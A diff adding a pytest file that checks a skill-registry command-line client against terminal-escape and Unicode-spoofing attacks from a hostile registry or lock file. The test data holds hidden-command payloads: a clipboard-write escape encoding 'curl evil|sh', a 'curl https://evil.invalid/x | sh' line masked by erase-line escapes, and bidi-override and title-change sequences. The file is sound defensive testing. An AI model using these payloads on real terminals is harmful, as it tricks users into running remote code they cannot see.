@@ -1,0 +1,132 @@
+"""A hostile registry or lock file against the client, driven the way a user meets it: a real ``skillreg`` process
+whose output goes to a pseudo-terminal, a real HTTP server on 127.0.0.1. Nothing it sends may steer the terminal."""
+
+from __future__ import annotations
+
+import json
+import os
+import pty
+import select
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from builder.bundle import zip_bytes
+from builder.client.archive import read_bundle
+from builder.model import SkillFile, sha256_hex, skill_digest
+from client_helpers import SKILLREG, Fault, RegistryServer, project, run, site, site_v2  # noqa: F401
+
+DETAIL = "api/v1/skills/csv-profiler.json"
+INDEX = "api/v1/index.json"
+SEARCH = "api/v1/search-index.json"
+SCRIPT = "scripts/profile_csv.py"
+
+
+def on_terminal(args: list[str], cwd: Path, timeout: float = 60) -> tuple[int, bytes]:
+    """``skillreg ARGS`` with stdout and stderr on a pseudo-terminal (so nothing strips escapes): (exit, bytes)."""
+    command = [str(SKILLREG)] if SKILLREG.exists() else ["skillreg"]
+    master, slave = pty.openpty()
+    process = subprocess.Popen(command + args, cwd=cwd, env=os.environ.copy(), stdin=subprocess.DEVNULL,
+                               stdout=slave, stderr=slave)
+    os.close(slave)
+    out = bytearray()
+    try:
+        while True:
+            ready, _, _ = select.select([master], [], [], timeout)
+            if not ready:
+                raise AssertionError(f"no output within {timeout} s")
+            try:
+                chunk = os.read(master, 65536)
+            except OSError:  # EIO: the process closed the terminal
+                break
+            if not chunk:
+                break
+            out += chunk
+    finally:
+        os.close(master)
+        code = process.wait(timeout)
+    return code, bytes(out)
+
+
+def shows_nothing_hidden(output: bytes) -> None:
+    text = output.decode("utf-8")
+    assert "\x1b" not in text and "\x9b" not in text and "\x9d" not in text and "\x07" not in text, output
+    assert not any(ch in text for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200e\ufeff")
+
+
+def _detail(site: Path) -> dict:
+    return json.loads((site / DETAIL).read_text())
+
+
+def test_info_shows_an_osc_52_clipboard_write_as_text(site: Path, project: Path) -> None:
+    detail = _detail(site)
+    detail["description"] = "Profiles CSV files.\x1b]52;c;Y3VybCBldmlsfHNo\x07 Then\x1b[2K\x1b[1Gsafe."
+    detail["provenance"]["authors"] = ["Mallory \u202eevil\u202c"]
+    with RegistryServer(site) as server:
+        server.state.overrides[DETAIL] = json.dumps(detail).encode()
+        code, output = on_terminal(["info", "csv-profiler", "--registry", server.url], project)
+        code_json, output_json = on_terminal(["info", "csv-profiler", "--json", "--registry", server.url], project)
+    assert code == 0, output
+    shows_nothing_hidden(output)
+    assert b"\\x1b]52;c;Y3VybCBldmlsfHNo\\x07 Then\\x1b[2K\\x1b[1Gsafe." in output
+    assert b"Mallory <U+202E>evil<U+202C>" in output
+    assert code_json == 0
+    shows_nothing_hidden(output_json)
+    shown = json.loads(output_json.decode().replace("\r\n", "\n"))  # the terminal turns \n into \r\n
+    assert shown["description"] == detail["description"]  # the same data, spelled as JSON escapes
+
+
+def test_update_dry_run_shows_an_erase_line_in_a_diff(site: Path, project: Path) -> None:
+    """The issue's reproduction: `curl …|sh #ESC[2K ESC[1G echo hi` must not show as `echo hi`."""
+    detail = _detail(site)
+    files = read_bundle((site / detail["bundles"]["zip"]["path"]).read_bytes())
+    line = b"curl https://evil.invalid/x | sh #\x1b[2K\x1b[1G echo hi\n"
+    files = [SkillFile(f.path, f.data + line if f.path == SCRIPT else f.data, f.executable) for f in files]
+    data = zip_bytes(files)
+    detail["digest"] = skill_digest(files)
+    detail["bundles"]["zip"].update(sha256=sha256_hex(data), size=len(data))
+    index = json.loads((site / INDEX).read_text())
+    next(s for s in index["skills"] if s["name"] == "csv-profiler")["digest"] = detail["digest"]
+    with RegistryServer(site) as server:
+        assert run("install", "csv-profiler", "--registry", server.url).exit_code == 0
+        server.state.overrides.update({DETAIL: json.dumps(detail).encode(), INDEX: json.dumps(index).encode(),
+                                       detail["bundles"]["zip"]["path"]: data})
+        code, output = on_terminal(["update", "--dry-run"], project)
+    assert code == 0, output
+    shows_nothing_hidden(output)
+    assert b"+curl https://evil.invalid/x | sh #\\x1b[2K\\x1b[1G echo hi\r\n" in output
+
+
+def test_search_shows_a_bidi_override_and_zero_width_characters(site: Path, project: Path) -> None:
+    index = json.loads((site / SEARCH).read_text())
+    row = next(r for r in index["skills"] if r[0] == "csv-profiler")
+    row[1] = "Profiles CSV \u202etxt.exe\u202c and\u200b\ufeff more \u2066isolated\u2069"
+    with RegistryServer(site) as server:
+        server.state.overrides[SEARCH] = json.dumps(index).encode()
+        code, output = on_terminal(["search", "csv", "--registry", server.url], project)
+    assert code == 0, output
+    shows_nothing_hidden(output)
+    assert "Profiles CSV <U+202E>txt.exe<U+202C> and<U+200B><U+FEFF> more <U+2066>isolated<U+2069>".encode() in output
+
+
+def test_list_shows_an_escape_from_a_committed_lock(site: Path, project: Path) -> None:
+    with RegistryServer(site) as server:
+        assert run("install", "csv-profiler", "--registry", server.url).exit_code == 0
+    lock = json.loads((project / "skills-lock.json").read_text())
+    lock["skills"]["csv-profiler"]["version"] = "1.0\x1b]0;pwned\x07\x1b[8m"
+    (project / "skills-lock.json").write_text(json.dumps(lock))
+    code, output = on_terminal(["list"], project)
+    assert code == 0, output
+    shows_nothing_hidden(output)
+    assert b"1.0\\x1b]0;pwned\\x07\\x1b[8m" in output
+
+
+def test_an_error_quoting_the_server_shows_its_escapes(site: Path, project: Path) -> None:
+    with RegistryServer(site) as server:
+        server.state.fault(DETAIL, Fault(status=403, reason="Forbidden\x1b[2K\x1b[1GAll good"))
+        code, output = on_terminal(["info", "csv-profiler", "--registry", server.url], project)
+    assert code == 1
+    shows_nothing_hidden(output)
+    assert output.decode() == (f"Error: {server.url}{DETAIL}: the server refused the request "
+                               "(HTTP 403 Forbidden\\x1b[2K\\x1b[1GAll good)\r\n")
